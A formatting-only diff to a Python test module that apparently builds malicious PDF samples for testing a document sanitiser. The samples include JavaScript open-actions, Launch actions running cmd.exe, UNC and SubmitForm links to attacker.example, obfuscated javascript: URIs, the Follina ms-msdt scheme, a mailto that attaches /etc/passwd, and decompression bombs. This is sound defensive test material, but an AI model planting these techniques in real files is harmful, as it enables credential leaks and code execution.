@@ -60,8 +60,13 @@ def pdf_benign(work: Path) -> bytes:
     return _base(work)
 
 
-@sample("pdf_goto_and_mailto", ".pdf", "control", "§12.6.4.2 GoTo and §12.6.4.7 mailto URI are plain navigation",
-        Expect.RELEASED)
+@sample(
+    "pdf_goto_and_mailto",
+    ".pdf",
+    "control",
+    "§12.6.4.2 GoTo and §12.6.4.7 mailto URI are plain navigation",
+    Expect.RELEASED,
+)
 def pdf_goto_and_mailto(work: Path) -> bytes:
     def change(pdf: pikepdf.Pdf) -> None:
         _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
@@ -85,17 +90,23 @@ def _change_sample(name: str, attack: str, source: str) -> Callable[[Change], Ch
     return register
 
 
-@_change_sample("pdf_openaction_js", "javascript", "§12.6.4.16 JavaScript action as the catalog's /OpenAction (§7.7.2)")
+@_change_sample(
+    "pdf_openaction_js", "javascript", "§12.6.4.16 JavaScript action as the catalog's /OpenAction (§7.7.2)"
+)
 def _openaction(pdf: pikepdf.Pdf) -> None:
     pdf.Root.OpenAction = _js(pdf)
 
 
-@_change_sample("pdf_names_javascript", "javascript", "§7.7.4 Names /JavaScript name tree: document-level scripts")
+@_change_sample(
+    "pdf_names_javascript", "javascript", "§7.7.4 Names /JavaScript name tree: document-level scripts"
+)
 def _names_js(pdf: pikepdf.Pdf) -> None:
     pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _js(pdf)])))
 
 
-@_change_sample("pdf_catalog_aa", "javascript", "§12.6.3 Table 197: document /AA WillClose (WC), WillPrint (WP)")
+@_change_sample(
+    "pdf_catalog_aa", "javascript", "§12.6.3 Table 197: document /AA WillClose (WC), WillPrint (WP)"
+)
 def _catalog_aa(pdf: pikepdf.Pdf) -> None:
     pdf.Root.AA = Dictionary(WC=_js(pdf), WP=_js(pdf))
 
@@ -110,12 +121,22 @@ def _annotation_aa(pdf: pikepdf.Pdf) -> None:
     _annotate(pdf, Dictionary(Subtype=Name.Square, AA=Dictionary(E=_js(pdf), PO=_js(pdf))))
 
 
-@_change_sample("pdf_field_aa", "javascript", "§12.7.3 form field with /AA keystroke (K) and calculate (C) scripts")
+@_change_sample(
+    "pdf_field_aa", "javascript", "§12.7.3 form field with /AA keystroke (K) and calculate (C) scripts"
+)
 def _field_aa(pdf: pikepdf.Pdf) -> None:
-    widget = pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("山田"),
-        Rect=Array([72, 600, 300, 620]), P=pdf.pages[0].obj, AA=Dictionary(K=_js(pdf), C=_js(pdf), F=_js(pdf)),
-    ))
+    widget = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Tx,
+            T=String("name"),
+            V=String("山田"),
+            Rect=Array([72, 600, 300, 620]),
+            P=pdf.pages[0].obj,
+            AA=Dictionary(K=_js(pdf), C=_js(pdf), F=_js(pdf)),
+        )
+    )
     pdf.pages[0].obj.Annots = Array([widget])
     pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), CO=Array([widget]), NeedAppearances=True)
 
@@ -128,13 +149,23 @@ def _outline_js(pdf: pikepdf.Pdf) -> None:
     pdf.Root.Outlines = outlines
 
 
-@_change_sample("pdf_next_chain_js", "javascript", "§12.6.2 /Next: a GoTo whose follow-up action is JavaScript")
+@_change_sample(
+    "pdf_next_chain_js", "javascript", "§12.6.2 /Next: a GoTo whose follow-up action is JavaScript"
+)
 def _next_chain(pdf: pikepdf.Pdf) -> None:
-    _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]),
-                          Next=Array([Dictionary(S=Name.JavaScript, JS=String(JS))])))
+    _link(
+        pdf,
+        Dictionary(
+            S=Name.GoTo,
+            D=Array([pdf.pages[0].obj, Name.Fit]),
+            Next=Array([Dictionary(S=Name.JavaScript, JS=String(JS))]),
+        ),
+    )
 
 
-@_change_sample("pdf_js_in_object_stream", "javascript", "§7.5.7 object streams hide the action from byte scanners")
+@_change_sample(
+    "pdf_js_in_object_stream", "javascript", "§7.5.7 object streams hide the action from byte scanners"
+)
 def _js_objstm(pdf: pikepdf.Pdf) -> None:
     pdf.Root.OpenAction = _js(pdf)
 
@@ -166,19 +197,27 @@ def _launch_link(pdf: pikepdf.Pdf) -> None:
 
 @_change_sample("pdf_gotor_unc", "remote-action", "§12.6.4.3 GoToR to a UNC file (NTLM leak, 2018 write-ups)")
 def _gotor(pdf: pikepdf.Pdf) -> None:
-    _link(pdf, Dictionary(S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit])))
+    _link(
+        pdf, Dictionary(S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit]))
+    )
 
 
 @_change_sample("pdf_gotoe_embedded", "remote-action", "§12.6.4.4 GoToE into an embedded PDF")
 def _gotoe(pdf: pikepdf.Pdf) -> None:
     _embed(pdf, "inner.pdf", b"%PDF-1.7\n%%EOF\n")
-    pdf.Root.OpenAction = Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("inner.pdf")), D=Array([0, Name.Fit]))
+    pdf.Root.OpenAction = Dictionary(
+        S=Name.GoToE, T=Dictionary(R=Name.C, N=String("inner.pdf")), D=Array([0, Name.Fit])
+    )
 
 
 @_change_sample("pdf_submitform", "remote-action", "§12.7.5.2 SubmitForm sending the form to a URL")
 def _submit(pdf: pikepdf.Pdf) -> None:
-    _link(pdf, Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://attacker.example/c")),
-                          Flags=4))
+    _link(
+        pdf,
+        Dictionary(
+            S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://attacker.example/c")), Flags=4
+        ),
+    )
 
 
 @_change_sample("pdf_importdata", "remote-action", "§12.7.5.4 ImportData from a file")
@@ -198,11 +237,19 @@ def _uri_sample(name: str, uri: bytes, source: str) -> None:
 
 
 _uri_sample("pdf_uri_javascript", b"javascript:app.alert(1)", "§12.6.4.7 URI action with a javascript: URI")
-_uri_sample("pdf_uri_javascript_mixed_case", b"JaVaScRiPt:app.alert(1)", "RFC 3986 §3.1: schemes are case-insensitive")
-_uri_sample("pdf_uri_javascript_spaces", b"  \tjava\nscript:app.alert(1)", "WHATWG URL: leading C0/space and tab/newline stripped")
+_uri_sample(
+    "pdf_uri_javascript_mixed_case", b"JaVaScRiPt:app.alert(1)", "RFC 3986 §3.1: schemes are case-insensitive"
+)
+_uri_sample(
+    "pdf_uri_javascript_spaces",
+    b"  \tjava\nscript:app.alert(1)",
+    "WHATWG URL: leading C0/space and tab/newline stripped",
+)
 _uri_sample("pdf_uri_file", b"file:///C:/Windows/System32/calc.exe", "§12.6.4.7 URI to file:")
 _uri_sample("pdf_uri_unc", b"\\\\attacker.example\\share\\a.exe", "URI that is a UNC path")
-_uri_sample("pdf_uri_msmsdt", b"ms-msdt:/id PCWDiagnostic /skip force", "Follina CVE-2022-30190 scheme in a PDF link")
+_uri_sample(
+    "pdf_uri_msmsdt", b"ms-msdt:/id PCWDiagnostic /skip force", "Follina CVE-2022-30190 scheme in a PDF link"
+)
 
 
 @_change_sample("pdf_uri_base_javascript", "uri-scheme", "§12.6.4.7 Table 207: catalog /URI /Base")
@@ -212,18 +259,27 @@ def _uri_base(pdf: pikepdf.Pdf) -> None:
 
 
 # ---------------------------------------------------------------- actions nested as direct objects
-@_change_sample("pdf_action_in_extgstate", "nested-action", "issue #8 §1: action dict nested in an ExtGState (§8.4.5)")
+@_change_sample(
+    "pdf_action_in_extgstate", "nested-action", "issue #8 §1: action dict nested in an ExtGState (§8.4.5)"
+)
 def _in_extgstate(pdf: pikepdf.Pdf) -> None:
     resources = pdf.pages[0].obj.Resources
-    resources.ExtGState = Dictionary(GSx=Dictionary(Type=Name.ExtGState, CA=1,
-                                                     AA=Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(JS)))))
+    resources.ExtGState = Dictionary(
+        GSx=Dictionary(
+            Type=Name.ExtGState, CA=1, AA=Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(JS)))
+        )
+    )
 
 
 @_change_sample("pdf_action_in_font", "nested-action", "action dict inside a direct font dictionary (§9.6)")
 def _in_font(pdf: pikepdf.Pdf) -> None:
     pdf.pages[0].obj.Resources.Font = Dictionary(
-        FAtk=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica,
-                        A=Dictionary(S=Name.Launch, F=String("cmd.exe")))
+        FAtk=Dictionary(
+            Type=Name.Font,
+            Subtype=Name.Type1,
+            BaseFont=Name.Helvetica,
+            A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
+        )
     )
 
 
@@ -232,17 +288,29 @@ def _in_resources(pdf: pikepdf.Pdf) -> None:
     pdf.pages[0].obj.Resources.OpenAction = Dictionary(S=Name.JavaScript, JS=String(JS))
 
 
-@_change_sample("pdf_action_direct_annotation", "nested-action", "annotation held directly in /Annots with its /A")
+@_change_sample(
+    "pdf_action_direct_annotation", "nested-action", "annotation held directly in /Annots with its /A"
+)
 def _direct_annotation(pdf: pikepdf.Pdf) -> None:
-    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]),
-                                                A=Dictionary(S=Name.JavaScript, JS=String(JS)))])
+    pdf.pages[0].obj.Annots = Array(
+        [
+            Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.Link,
+                Rect=Array([0, 0, 50, 50]),
+                A=Dictionary(S=Name.JavaScript, JS=String(JS)),
+            )
+        ]
+    )
 
 
 # ---------------------------------------------------------------- embedded content
 def _embed(pdf: pikepdf.Pdf, name: str, data: bytes) -> Dictionary:
     stream = pikepdf.Stream(pdf, data)
     stream.Type = Name.EmbeddedFile
-    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream)))
+    spec = pdf.make_indirect(
+        Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))
+    )
     pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String(name), spec])))
     return spec
 
@@ -260,12 +328,16 @@ def _attachment(pdf: pikepdf.Pdf) -> None:
     _annotate(pdf, Dictionary(Subtype=Name.FileAttachment, FS=spec, Name=Name.PushPin))
 
 
-@_change_sample("pdf_richmedia", "rich-media", "Adobe Supplement to ISO 32000 ext. level 3 §9.6 RichMedia (Flash)")
+@_change_sample(
+    "pdf_richmedia", "rich-media", "Adobe Supplement to ISO 32000 ext. level 3 §9.6 RichMedia (Flash)"
+)
 def _richmedia(pdf: pikepdf.Pdf) -> None:
     flash = pikepdf.Stream(pdf, b"FWS\x0a" + b"\x00" * 32)
     asset = Dictionary(Type=Name.Filespec, F=String("a.swf"), EF=Dictionary(F=flash))
-    content = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), asset])),
-                         Configurations=Array([Dictionary(Subtype=Name.Flash)]))
+    content = Dictionary(
+        Assets=Dictionary(Names=Array([String("a.swf"), asset])),
+        Configurations=Array([Dictionary(Subtype=Name.Flash)]),
+    )
     _annotate(pdf, Dictionary(Subtype=Name.RichMedia, RichMediaContent=content))
 
 
@@ -280,8 +352,11 @@ def _three_d(pdf: pikepdf.Pdf) -> None:
 
 @_change_sample("pdf_xfa_form", "forms", "XFA 3.3 forms in AcroForm /XFA (script-capable)")
 def _xfa(pdf: pikepdf.Pdf) -> None:
-    xfa = pikepdf.Stream(pdf, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script>'
-                              b"</template></xdp:xdp>")
+    xfa = pikepdf.Stream(
+        pdf,
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script>'
+        b"</template></xdp:xdp>",
+    )
     pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
     pdf.Root.NeedsRendering = True
 
@@ -307,7 +382,10 @@ def _raw_pdf(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
     out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
     for offset in offsets:
         out.write(b"%010d 00000 n \n" % offset)
-    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref))
+    out.write(
+        b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
+        % (len(objects) + 1, trailer_extra, xref)
+    )
     return out.getvalue()
 
 
@@ -326,12 +404,16 @@ def _page_objects(catalog_extra: bytes, annotation: bytes = b"") -> list[bytes]:
     return objects
 
 
-@sample("pdf_name_hex_escapes", ".pdf", "javascript", "§7.3.5 #xx escapes in names: /J#61vaScript, /O#70enAction")
+@sample(
+    "pdf_name_hex_escapes", ".pdf", "javascript", "§7.3.5 #xx escapes in names: /J#61vaScript, /O#70enAction"
+)
 def pdf_name_hex_escapes(work: Path) -> bytes:
     return _raw_pdf(_page_objects(b"/O#70enAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"))
 
 
-@sample("pdf_uri_octal_escapes", ".pdf", "uri-scheme", "§7.3.4.2 string escapes: \\152avascript: is javascript:")
+@sample(
+    "pdf_uri_octal_escapes", ".pdf", "uri-scheme", "§7.3.4.2 string escapes: \\152avascript: is javascript:"
+)
 def pdf_uri_octal_escapes(work: Path) -> bytes:
     link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI (\\152ava\\163cript:app.alert\\(1\\)) >> >>"
     return _raw_pdf(_page_objects(b"", link))
@@ -339,14 +421,18 @@ def pdf_uri_octal_escapes(work: Path) -> bytes:
 
 @sample("pdf_uri_hex_string", ".pdf", "uri-scheme", "§7.3.4.3 hexadecimal string holding javascript:")
 def pdf_uri_hex_string(work: Path) -> bytes:
-    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI <" + b"javascript:app.alert(1)".hex().encode() + b"> >> >>"
+    link = (
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI <"
+        + b"javascript:app.alert(1)".hex().encode()
+        + b"> >> >>"
+    )
     return _raw_pdf(_page_objects(b"", link))
 
 
 def _append_revision(original: bytes, objects: dict[int, bytes], size: int) -> bytes:
     """§7.5.6: new object bodies, an xref section for just them, a trailer pointing back with /Prev."""
     xref = original.rindex(b"startxref")
-    previous = int(original[xref + 10:].split()[0])
+    previous = int(original[xref + 10 :].split()[0])
     update = io.BytesIO()
     update.write(original)
     offsets = {}
@@ -357,32 +443,58 @@ def _append_revision(original: bytes, objects: dict[int, bytes], size: int) -> b
     update.write(b"xref\n0 1\n0000000000 65535 f \n")
     for number, offset in sorted(offsets.items()):
         update.write(b"%d 1\n%010d 00000 n \n" % (number, offset))
-    update.write(b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, new_xref))
+    update.write(
+        b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, new_xref)
+    )
     return update.getvalue()
 
 
-@sample("pdf_incremental_adds_js", ".pdf", "incremental-update", "§7.5.6 incremental update adding OpenAction JS to a clean file")
+@sample(
+    "pdf_incremental_adds_js",
+    ".pdf",
+    "incremental-update",
+    "§7.5.6 incremental update adding OpenAction JS to a clean file",
+)
 def pdf_incremental_adds_js(work: Path) -> bytes:
-    return _append_revision(_raw_pdf(_page_objects(b"")), {
-        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
-        7: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
-    }, 8)
+    return _append_revision(
+        _raw_pdf(_page_objects(b"")),
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
+            7: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
+        },
+        8,
+    )
 
 
-@sample("pdf_shadowed_revision_js", ".pdf", "incremental-update", "§7.5.6: an older revision still carries JS bytes")
+@sample(
+    "pdf_shadowed_revision_js",
+    ".pdf",
+    "incremental-update",
+    "§7.5.6: an older revision still carries JS bytes",
+)
 def pdf_shadowed_revision_js(work: Path) -> bytes:
     dirty = _raw_pdf(_page_objects(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"))
     return _append_revision(dirty, {1: b"<< /Type /Catalog /Pages 2 0 R >>"}, 7)
 
 
-@sample("pdf_data_after_eof", ".pdf", "trailing-data", "PDF/ZIP and PDF/HTML polyglots (Ange Albertini, PoC||GTFO)")
+@sample(
+    "pdf_data_after_eof",
+    ".pdf",
+    "trailing-data",
+    "PDF/ZIP and PDF/HTML polyglots (Ange Albertini, PoC||GTFO)",
+)
 def pdf_data_after_eof(work: Path) -> bytes:
     from tests.attacks.builders.archive import zip_of
 
     return _base(work) + b"\n<html><script>alert(1)</script></html>\n" + zip_of({"run.bat": b"calc.exe\r\n"})
 
 
-@sample("pdf_flate_bomb", ".pdf", "bomb", "issue #8 §1: a content stream that inflates to 600 MiB (§7.4.4 FlateDecode)")
+@sample(
+    "pdf_flate_bomb",
+    ".pdf",
+    "bomb",
+    "issue #8 §1: a content stream that inflates to 600 MiB (§7.4.4 FlateDecode)",
+)
 def pdf_flate_bomb(work: Path) -> bytes:
     compressor = zlib.compressobj(9)
     chunk = b"0 0 m\n" * (1 << 16)
@@ -403,45 +515,85 @@ def pdf_flate_bomb(work: Path) -> bytes:
 # ---------------------------------------------------------------- second round
 @_change_sample("pdf_names_tree_kids_js", "javascript", "§7.9.6 name trees: scripts under /Kids, not /Names")
 def _names_kids(pdf: pikepdf.Pdf) -> None:
-    leaf = pdf.make_indirect(Dictionary(Names=Array([String("a"), _js(pdf)]), Limits=Array([String("a"), String("a")])))
+    leaf = pdf.make_indirect(
+        Dictionary(Names=Array([String("a"), _js(pdf)]), Limits=Array([String("a"), String("a")]))
+    )
     pdf.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([leaf])))
 
 
-@_change_sample("pdf_aa_on_pages_node", "javascript", "§7.7.3.2: /AA planted on the page tree node (some viewers inherit)")
+@_change_sample(
+    "pdf_aa_on_pages_node", "javascript", "§7.7.3.2: /AA planted on the page tree node (some viewers inherit)"
+)
 def _pages_aa(pdf: pikepdf.Pdf) -> None:
     pdf.Root.Pages.AA = Dictionary(O=_js(pdf))
 
 
-@_change_sample("pdf_uri_action_with_js_key", "javascript", "§12.6.4.7 URI action with an extra /JS and /Next riding along")
+@_change_sample(
+    "pdf_uri_action_with_js_key",
+    "javascript",
+    "§12.6.4.7 URI action with an extra /JS and /Next riding along",
+)
 def _uri_extra(pdf: pikepdf.Pdf) -> None:
-    _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.city.example.lg.jp/"), JS=String(JS),
-                          Next=Dictionary(S=Name.JavaScript, JS=String(JS))))
+    _link(
+        pdf,
+        Dictionary(
+            S=Name.URI,
+            URI=String("https://www.city.example.lg.jp/"),
+            JS=String(JS),
+            Next=Dictionary(S=Name.JavaScript, JS=String(JS)),
+        ),
+    )
 
 
 @_change_sample("pdf_orphan_widget_aa", "javascript", "§12.5.6.19 Widget annotation with /AA but no AcroForm")
 def _orphan_widget(pdf: pikepdf.Pdf) -> None:
-    _annotate(pdf, Dictionary(Subtype=Name.Widget, FT=Name.Btn, T=String("b"), AA=Dictionary(U=_js(pdf)),
-                              A=Dictionary(S=Name.JavaScript, JS=String(JS))))
+    _annotate(
+        pdf,
+        Dictionary(
+            Subtype=Name.Widget,
+            FT=Name.Btn,
+            T=String("b"),
+            AA=Dictionary(U=_js(pdf)),
+            A=Dictionary(S=Name.JavaScript, JS=String(JS)),
+        ),
+    )
 
 
-@_change_sample("pdf_uri_utf16_javascript", "uri-scheme", "§7.9.2.2 text string in UTF-16BE with BOM spelling javascript:")
+@_change_sample(
+    "pdf_uri_utf16_javascript", "uri-scheme", "§7.9.2.2 text string in UTF-16BE with BOM spelling javascript:"
+)
 def _uri_utf16(pdf: pikepdf.Pdf) -> None:
-    _link(pdf, Dictionary(S=Name.URI, URI=String(b"\xfe\xff" + "javascript:app.alert(1)".encode("utf-16-be"))))
+    _link(
+        pdf, Dictionary(S=Name.URI, URI=String(b"\xfe\xff" + "javascript:app.alert(1)".encode("utf-16-be")))
+    )
 
 
-@sample("pdf_encrypted_owner_js", ".pdf", "javascript", "§7.6.3 standard security handler, empty user password, OpenAction JS")
+@sample(
+    "pdf_encrypted_owner_js",
+    ".pdf",
+    "javascript",
+    "§7.6.3 standard security handler, empty user password, OpenAction JS",
+)
 def pdf_encrypted_owner_js(work: Path) -> bytes:
     return _edit(work, _openaction, encryption=pikepdf.Encryption(owner="owner-secret", user="", R=4))
 
 
-@sample("pdf_deep_nesting", ".pdf", "bomb", "parser recursion: 20000 nested arrays (qpdf/pdf.js stack exhaustion reports)")
+@sample(
+    "pdf_deep_nesting",
+    ".pdf",
+    "bomb",
+    "parser recursion: 20000 nested arrays (qpdf/pdf.js stack exhaustion reports)",
+)
 def pdf_deep_nesting(work: Path) -> bytes:
     return _raw_pdf(_page_objects(b"/Deep " + b"[" * 20000 + b"]" * 20000))
 
 
 def _bomb_stream(pdf: pikepdf.Pdf, layers: int, megabytes: int) -> pikepdf.Stream:
     compressor = zlib.compressobj(9)
-    packed = b"".join(compressor.compress(b"0 0 m\n" * (1 << 17)) for _ in range(megabytes * 4 // 3)) + compressor.flush()
+    packed = (
+        b"".join(compressor.compress(b"0 0 m\n" * (1 << 17)) for _ in range(megabytes * 4 // 3))
+        + compressor.flush()
+    )
     for _ in range(layers - 1):
         packed = zlib.compress(packed, 9)
     stream = pikepdf.Stream(pdf, packed)
@@ -457,7 +609,12 @@ def _save_raw(change: Change) -> bytes:
     return out.getvalue()
 
 
-@sample("pdf_double_flate_bomb", ".pdf", "bomb", "§7.4 filter arrays: [/FlateDecode /FlateDecode] hides a 600 MiB page in ~1 KB")
+@sample(
+    "pdf_double_flate_bomb",
+    ".pdf",
+    "bomb",
+    "§7.4 filter arrays: [/FlateDecode /FlateDecode] hides a 600 MiB page in ~1 KB",
+)
 def pdf_double_flate_bomb(work: Path) -> bytes:
     def change(pdf: pikepdf.Pdf) -> None:
         pdf.pages[0].obj.Contents = _bomb_stream(pdf, 2, 600)
@@ -478,40 +635,71 @@ def pdf_form_xobject_bomb(work: Path) -> bytes:
     return _save_raw(change)
 
 
-@sample("pdf_html_prefix_polyglot", ".pdf", "polyglot", "PDF/HTML polyglot: %PDF within the first 1024 bytes (§7.5.2 implementation note)")
+@sample(
+    "pdf_html_prefix_polyglot",
+    ".pdf",
+    "polyglot",
+    "PDF/HTML polyglot: %PDF within the first 1024 bytes (§7.5.2 implementation note)",
+)
 def pdf_html_prefix_polyglot(work: Path) -> bytes:
     return b"<html><script>alert(document.domain)</script><!--\n" + _raw_pdf(_page_objects(b"")) + b"-->"
 
 
 # ---------------------------------------------------------------- third round
-_uri_sample("pdf_uri_mailto_attach", b"mailto:soumu@town.example.lg.jp?attach=/etc/passwd",
-            "'Mailto: Me Your Secrets' (NDSS 2021): mailto with attach=")
+_uri_sample(
+    "pdf_uri_mailto_attach",
+    b"mailto:soumu@town.example.lg.jp?attach=/etc/passwd",
+    "'Mailto: Me Your Secrets' (NDSS 2021): mailto with attach=",
+)
 
 
-@_change_sample("pdf_action_in_appearance_stream", "nested-action", "§12.5.5 appearance stream whose resources hold an action")
+@_change_sample(
+    "pdf_action_in_appearance_stream",
+    "nested-action",
+    "§12.5.5 appearance stream whose resources hold an action",
+)
 def _in_appearance(pdf: pikepdf.Pdf) -> None:
     appearance = pikepdf.Stream(pdf, b"0 0 1 rg 0 0 50 50 re f")
     appearance.Type = Name.XObject
     appearance.Subtype = Name.Form
     appearance.BBox = Array([0, 0, 50, 50])
-    appearance.Resources = Dictionary(ExtGState=Dictionary(G0=Dictionary(A=Dictionary(S=Name.JavaScript, JS=String(JS)))))
+    appearance.Resources = Dictionary(
+        ExtGState=Dictionary(G0=Dictionary(A=Dictionary(S=Name.JavaScript, JS=String(JS))))
+    )
     _annotate(pdf, Dictionary(Subtype=Name.Square, AP=Dictionary(N=appearance)))
 
 
-@_change_sample("pdf_names_templates", "javascript", "§12.7.6 /Names /Templates: hidden pages a script can spawn, with /AA")
+@_change_sample(
+    "pdf_names_templates",
+    "javascript",
+    "§12.7.6 /Names /Templates: hidden pages a script can spawn, with /AA",
+)
 def _templates(pdf: pikepdf.Pdf) -> None:
-    hidden = pdf.make_indirect(Dictionary(Type=Name.Template, MediaBox=Array([0, 0, 612, 792]),
-                                          AA=Dictionary(O=_js(pdf)), Resources=Dictionary()))
+    hidden = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Template,
+            MediaBox=Array([0, 0, 612, 792]),
+            AA=Dictionary(O=_js(pdf)),
+            Resources=Dictionary(),
+        )
+    )
     pdf.Root.Names = Dictionary(Templates=Dictionary(Names=Array([String("t1"), hidden])))
 
 
-@_change_sample("pdf_named_action_print", "remote-action", "§12.6.4.11 Named action (a viewer menu command) on open")
+@_change_sample(
+    "pdf_named_action_print", "remote-action", "§12.6.4.11 Named action (a viewer menu command) on open"
+)
 def _named(pdf: pikepdf.Pdf) -> None:
     pdf.Root.OpenAction = Dictionary(S=Name.Named, N=Name.Print)
 
 
 # ---------------------------------------------------------------- fifth round: indirection
-@sample("pdf_indirect_action_type", ".pdf", "javascript", "§7.3.10: /S given as an indirect reference to the name /JavaScript")
+@sample(
+    "pdf_indirect_action_type",
+    ".pdf",
+    "javascript",
+    "§7.3.10: /S given as an indirect reference to the name /JavaScript",
+)
 def pdf_indirect_action_type(work: Path) -> bytes:
     objects = _page_objects(b"/OpenAction 7 0 R")
     objects.append(b"<< /S 8 0 R /JS 9 0 R >>")
@@ -520,24 +708,39 @@ def pdf_indirect_action_type(work: Path) -> bytes:
     return _raw_pdf(objects)
 
 
-@sample("pdf_uri_as_name", ".pdf", "uri-scheme", "§12.6.4.7 expects a string; a name object spelling javascript: instead")
+@sample(
+    "pdf_uri_as_name",
+    ".pdf",
+    "uri-scheme",
+    "§12.6.4.7 expects a string; a name object spelling javascript: instead",
+)
 def pdf_uri_as_name(work: Path) -> bytes:
     link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI /javascript:app.alert#281#29 >> >>"
     return _raw_pdf(_page_objects(b"", link))
 
 
 # ---------------------------------------------------------------- findings of the fuzzer, kept as samples
-@sample("pdf_non_utf8_key_name", ".pdf", "appliance-crash",
-        "fuzz finding (pdf m0015, one bit): §7.3.5 names are bytes; /B\\xe1seFont is not UTF-8")
+@sample(
+    "pdf_non_utf8_key_name",
+    ".pdf",
+    "appliance-crash",
+    "fuzz finding (pdf m0015, one bit): §7.3.5 names are bytes; /B\\xe1seFont is not UTF-8",
+)
 def pdf_non_utf8_key_name(work: Path) -> bytes:
     objects = _page_objects(b"")
     objects[5] = b"<< /Type /Font /Subtype /Type1 /B\xe1seFont /Helvetica >>"
     return _raw_pdf(objects)
 
 
-@sample("pdf_aa_in_font_resources", ".pdf", "fuzz-finding",
-        "fuzz finding (pdf m0025): /AA with a Launch action spliced into a page's /Font resource dictionary")
+@sample(
+    "pdf_aa_in_font_resources",
+    ".pdf",
+    "fuzz-finding",
+    "fuzz finding (pdf m0025): /AA with a Launch action spliced into a page's /Font resource dictionary",
+)
 def pdf_aa_in_font_resources(work: Path) -> bytes:
     objects = _page_objects(b"")
-    objects[2] = objects[2].replace(b"/Font << /F1 6 0 R >>", b"/Font << /AA << /O << /S /Launch /F (cmd.exe) >> >> /F1 6 0 R >>")
+    objects[2] = objects[2].replace(
+        b"/Font << /F1 6 0 R >>", b"/Font << /AA << /O << /S /Launch /F (cmd.exe) >> >> /F1 6 0 R >>"
+    )
     return _raw_pdf(objects)
